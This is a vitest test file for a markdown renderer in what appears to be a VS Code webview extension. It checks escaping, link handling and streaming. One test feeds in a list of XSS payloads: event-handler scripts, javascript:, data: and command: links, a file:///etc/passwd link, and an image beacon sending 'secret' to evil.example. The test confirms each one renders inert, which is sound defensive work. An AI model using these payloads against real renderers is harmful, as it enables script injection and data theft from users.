import { expect, test } from 'vitest';
import { createBlocks } from '../../../src/webview/app/markdown/blocks.ts';
import { createMarkdown } from '../../../src/webview/app/markdown/render.ts';

const markdown = createMarkdown({ copy: 'Copy code', image: 'Image' });
const render = (text: string) => {
  const tokens = markdown.lex(text);
  return markdown.render(tokens, tokens.links, false);
};

const allowed =
  /^<\/?(?:p|h[1-6]|ul|ol|li|blockquote|pre|code|strong|em|del|table|thead|tbody|tr|th|td|br|hr|div|span|button|a)(?:\s+(?:class|type|title|aria-label|aria-hidden|data-copy|data-path|data-line|data-link|role|tabindex|start|align)="[^"<>]*")*\s*\/?>$/;

test.each([
  '<img src=x onerror=alert(1)>',
  'text <img src=x onerror=alert(1)> text',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)><style>*{background:url(https://evil.example)}</style></svg>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](command:workbench.action.terminal.new)',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vscode://x/y) [a](file:///etc/passwd)',
  '![pixel](https://evil.example/?q=secret)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[![x](https://evil.example/i.png)](https://evil.example "title\\" onclick=alert(1)")',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '&lt;img src=x onerror=alert(1)&gt; &#60;svg onload=alert(1)&#62;',
  '<https://evil.example/"onmouseover="alert(1)>',
  '[x](<https://evil.example/ onclick=alert(1)>)',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  'src/<img src=x onerror=alert(1)>.ts:12',
  '[a]: javascript:alert(1)\n\n[a]',
  '- [ ] <input onfocus=alert(1) autofocus>',
])('S30 is inert: %s', (text) => {
  const tags = render(text).match(/<[^>]*>/g) ?? [];
  expect(tags.filter((tag) => !allowed.test(tag))).toEqual([]);
  expect(render(text)).not.toMatch(/ (?:href|src|style|on\w+)="/);
  expect(render(text)).not.toMatch(/data-link="(?!https?:)/i);
});

test('S31 an image is its words and its address', () => {
  expect(render('![a cat](https://a.example/c.png)')).toBe(
    '<p><span class="image-text">a cat (https://a.example/c.png)</span></p>\n',
  );
});

test('S31 a web link shows its address and needs a click', () => {
  expect(render('[docs](https://a.example/x?a=1&b=2)')).toContain(
    '<a role="link" tabindex="0" class="link" data-link="https://a.example/x?a=1&#38;b=2" title="https://a.example/x?a=1&#38;b=2">docs</a>',
  );
});

test('places become buttons, in text, code and links', () => {
  const html = render('See src/a.ts:12, `lib/b.js` and [the server](src/c.ts#L8).');
  expect(html.match(/data-path="[^"]*"(?: data-line="\d+")?/g)).toEqual([
    'data-path="src/a.ts" data-line="12"',
    'data-path="lib/b.js"',
    'data-path="src/c.ts" data-line="8"',
  ]);
});

test('text is escaped exactly once', () => {
  expect(render('a < b && `c<d>` &amp; &lt;e&gt;')).toBe(
    '<p>a &#60; b &#38;&#38; <code>c&#60;d&#62;</code> &#38; &#60;e&#62;</p>\n',
  );
});

const document = [
  '# Title',
  'One *two*.',
  '- a\n- b\n\n  c',
  '```ts\nconst x = 1;\n\nconst y = 2;\n```',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  'End [ref].',
  '[ref]: https://a.example/',
].join('\n\n');

test('a text that streams ends as one that came at once', () => {
  const clean = (html: string) => html;
  const streamed = createBlocks(markdown, clean);
  for (let end = 1; end < document.length; end += 3) streamed.update(document.slice(0, end), false);
  const html = streamed.update(document, true).map((block) => block.html);
  expect(html).toEqual(
    createBlocks(markdown, clean)
      .update(document, true)
      .map((block) => block.html),
  );
  expect(html.join('')).toContain('data-link="https://a.example/"');
});

test('a finished block is rendered once, however long the rest streams', () => {
  const rendered: string[] = [];
  const blocks = createBlocks(markdown, (html) => {
    rendered.push(html);
    return html;
  });
  const paragraphs = Array.from({ length: 40 }, (_, index) => `Paragraph ${index}.`).join('\n\n');
  for (let end = 1; end <= paragraphs.length; end += 1) blocks.update(paragraphs.slice(0, end), false);
  blocks.update(paragraphs, true);
  expect(rendered.filter((html) => html === '<p>Paragraph 3.</p>\n').length).toBeLessThanOrEqual(4);
  expect(rendered.length).toBeLessThan(paragraphs.length + 90);
});
